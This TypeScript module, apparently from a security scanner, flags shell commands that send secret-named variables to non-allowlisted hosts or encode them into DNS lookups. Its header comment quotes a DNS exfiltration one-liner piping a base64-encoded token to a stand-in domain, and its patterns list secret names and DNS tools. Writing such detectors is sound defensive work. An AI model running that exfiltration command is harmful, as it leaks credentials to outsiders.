/**
 * Secrets that leave through a command the shell analysis already read: a secret-named variable
 * (`$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`) expanded in a command line that reaches a network host,
 * and a DNS lookup of a name computed at run time (`dig $(echo $TOKEN | base64).x.example`), which
 * carries data out in the query itself. Reads the analysis (segments, hosts) and the variable names of
 * the command text; parses no shell. A host on the allowlist receiving its own token (`api.github.com`)
 * is no leak; a token presented as credentials (an `Authorization` header, `-u user:$TOKEN`) to a host
 * whose vendor its name does not contradict (`$TOKEN`, `$SENTRY_TOKEN` to `us.sentry.io`) is how an API
 * is used: medium, for a reviewer to confirm the host issued it. Pure.
 */

import { isServiceClient, type ShellAnalysis } from '../../shell';
import { vendorLabel } from './named-vendor';

/** Variable names that hold a secret by convention. */
const SECRET_NAME =
  /(TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?|SESSION_KEY)/i;
/** Programs that resolve a name: the name they are given travels to a resolver anyone can run. */
const DNS_LOOKUP = new Set(['dig', 'kdig', 'nslookup', 'host', 'drill', 'delv', 'getent', 'resolvectl']);

export interface SecretFlow {
  severity: 'critical' | 'medium';
  message: string;
}

/** Secret-named variables the command expands (`$NAME`, `${NAME}`, `${NAME:-x}`), in order, once each. */
export function secretVariables(command: string): string[] {
  const out = new Set<string>();
  for (const m of command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]{0,63})/g)) {
    const name = m[1] ?? '';
    if (SECRET_NAME.test(name)) out.add(name);
  }
  return [...out];
}

export function secretFlow(
  command: string,
  analysis: ShellAnalysis,
  hostAllowed: (host: string) => boolean,
): SecretFlow | undefined {
  const names = secretVariables(command);
  if (names.length === 0) return undefined;
  const named = `\`${names.slice(0, 3).join('`, `')}\``;
  const beacon = analysis.segments.find(
    (s) => DNS_LOOKUP.has(s.program) && s.argv.slice(1).some((a) => a.includes('$')),
  );
  if (beacon)
    return {
      severity: 'critical',
      message: `a secret-named variable (${named}) reaches \`${beacon.program}\`, which sends a name computed at run time to a DNS resolver`,
    };
  // A service's own client handed a token whose name names no other issuer (`vercel --token $VERCEL_TOKEN`,
  // `gh ... $TOKEN`) presents it to that service, which is what the client is for.
  const remote = analysis.segments.flatMap((s) =>
    s.hosts.filter(
      (h) => !h.local && !(isServiceClient(h.via) && names.every((n) => issuerAgrees(n, h.host))),
    ),
  );
  const unstated = remote.find((h) => !hostAllowed(h.host));
  if (unstated && names.every((n) => presentedTo(command, n, unstated.host)))
    return {
      severity: 'medium',
      message: `a secret-named variable (${named}) is presented as credentials to \`${unstated.host}\`, not on the host allowlist: check the host issued it`,
    };
  if (unstated)
    return {
      severity: 'critical',
      message: `a secret-named variable (${named}) goes into a command that connects to \`${unstated.host}\`, not on the host allowlist`,
    };
  return undefined;
}

/** Words of a variable name before its secret part (`GITHUB_TOKEN` -> `github`), lower-cased. */
function issuerWords(name: string): string[] {
  const m = SECRET_NAME.exec(name);
  const prefix = m ? name.slice(0, m.index) : name;
  return prefix
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter((w) => w.length >= 3 && !['auth', 'access', 'api', 'bearer', 'user', 'app', 'my'].includes(w));
}

/**
 * Does the variable's name name no issuer, or one of the host's own labels (`VERCEL_TOKEN` and
 * `api.vercel.com`, `FLY_API_TOKEN` and `api.fly.io`)?
 */
function issuerAgrees(name: string, host: string): boolean {
  const issuer = issuerWords(name);
  if (issuer.length === 0) return true;
  const labels = host.toLowerCase().split('.').slice(0, -1);
  return issuer.some((w) => labels.includes(w));
}

/**
 * Every expansion of `name` in `command` sits in an `Authorization` header or a `-u`/`--user` credential,
 * and its name names no issuer other than the host's vendor.
 */
function presentedTo(command: string, name: string, host: string): boolean {
  const issuer = issuerWords(name);
  const vendor = vendorLabel(host);
  if (issuer.length > 0 && (vendor === undefined || !issuer.includes(vendor))) return false;
  const uses = [...command.matchAll(new RegExp(`\\$\\{?${name}\\b`, 'g'))];
  const auth = new RegExp(
    `(-H|--header)\\s*=?\\s*["']?(Authorization|Proxy-Authorization|X-Api-Key|Private-Token)\\s*:[^"'\\n]*\\$\\{?${name}\\b|(-u|--user)\\s*=?\\s*["']?[^"'\\s]*\\$\\{?${name}\\b`,
    'gi',
  );
  return uses.length > 0 && [...command.matchAll(auth)].length >= uses.length;
}
